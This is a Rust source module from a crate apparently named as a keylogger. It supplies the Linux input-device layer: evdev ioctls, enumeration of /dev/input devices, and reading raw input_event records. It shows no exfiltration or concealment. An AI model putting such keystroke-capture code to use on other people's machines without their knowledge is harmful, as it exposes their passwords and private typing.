use crate::KeyloggerResult;
use std::fs::{self, File};
use std::io;
use std::mem;
use std::os::fd::{AsRawFd, RawFd};
use std::os::unix::fs::FileTypeExt;
use std::path::PathBuf;

const IOC_READ: libc::c_ulong = 2;
const EV_IOC_TYPE: libc::c_ulong = b'E' as libc::c_ulong;

const EVIOCGNAME_NR: libc::c_ulong = 0x06;
const EVIOCGBIT_NR: libc::c_ulong = 0x20;

/// Build an `_IOR('E', nr, len)` request for the evdev ioctls.
const fn evdev_read_request(nr: libc::c_ulong, len: usize) -> libc::c_ulong {
    // dir:2 | size:14 | type:8 | nr:8
    (IOC_READ << 30) | ((len as libc::c_ulong) << 16) | (EV_IOC_TYPE << 8) | nr
}

/// The size of one record read from an input device.
pub(crate) const RECORD_SIZE: usize = mem::size_of::<libc::input_event>();

/// The outcome of reading a single record.
pub(crate) enum Record {
    /// A complete `input_event`.
    Full(libc::input_event),
    /// The read returned fewer bytes than a full record (the partial data is discarded).
    Short(usize),
}

/// Read exactly one [`libc::input_event`] from the specified file descriptor.
pub(crate) fn read_record(fd: RawFd) -> io::Result<Record> {
    let mut event = mem::MaybeUninit::<libc::input_event>::uninit();

    let n = unsafe { libc::read(fd, event.as_mut_ptr() as *mut libc::c_void, RECORD_SIZE) };

    if n < 0 {
        return Err(io::Error::last_os_error());
    }

    let n = n as usize;

    if n < RECORD_SIZE {
        return Ok(Record::Short(n));
    }

    // The read filled the whole record:
    Ok(Record::Full(unsafe { event.assume_init() }))
}

/// Set the `O_NONBLOCK` flag for the specified file descriptor.
pub(crate) fn set_nonblocking(f: &File) -> KeyloggerResult<()> {
    let fd = f.as_raw_fd();
    let flags = unsafe { libc::fcntl(fd, libc::F_GETFL) };

    if flags < 0 {
        return Err(io::Error::last_os_error().into());
    }

    let res = unsafe { libc::fcntl(fd, libc::F_SETFL, flags | libc::O_NONBLOCK) };

    if res < 0 {
        return Err(io::Error::last_os_error().into());
    }

    Ok(())
}

/// Read the name of the specified input device using the `EVIOCGNAME` ioctl.
pub(crate) fn read_name(f: &File) -> KeyloggerResult<String> {
    const DEVICE_NAME_MAX_LEN: usize = 512;

    let mut buf = [0u8; DEVICE_NAME_MAX_LEN];

    ioctl(
        f.as_raw_fd(),
        evdev_read_request(EVIOCGNAME_NR, buf.len()),
        buf.as_mut_ptr() as *mut libc::c_ulong,
    )?;

    let name = buf.split(|&b| b == 0).next().unwrap_or_default();

    Ok(String::from_utf8_lossy(name).trim().to_owned())
}

/// Read the event types supported by the specified device using the `EVIOCGBIT` ioctl.
pub(crate) fn read_event_flags(f: &File) -> KeyloggerResult<u64> {
    let mut bits: libc::c_ulong = 0;

    ioctl(
        f.as_raw_fd(),
        evdev_read_request(EVIOCGBIT_NR, mem::size_of::<libc::c_ulong>()),
        &mut bits,
    )?;

    Ok(bits as u64)
}

/// The directory scanned when the input registry is unavailable.
pub(crate) const INPUT_DIR: &str = "/dev/input";

/// List the character devices in [`INPUT_DIR`], sorted by path.
pub(crate) fn find_char_devices() -> KeyloggerResult<Vec<PathBuf>> {
    let mut paths = fs::read_dir(INPUT_DIR)?
        .filter_map(|entry| {
            let path = entry.ok()?.path();
            let is_char = fs::metadata(&path).ok()?.file_type().is_char_device();
            is_char.then_some(path)
        })
        .collect::<Vec<_>>();

    paths.sort();
    Ok(paths)
}

fn ioctl(fd: RawFd, request: libc::c_ulong, buf: *mut libc::c_ulong) -> KeyloggerResult<()> {
    match unsafe { libc::ioctl(fd, request as _, buf) } {
        res if res < 0 => Err(io::Error::last_os_error().into()),
        _ => Ok(()),
    }
}
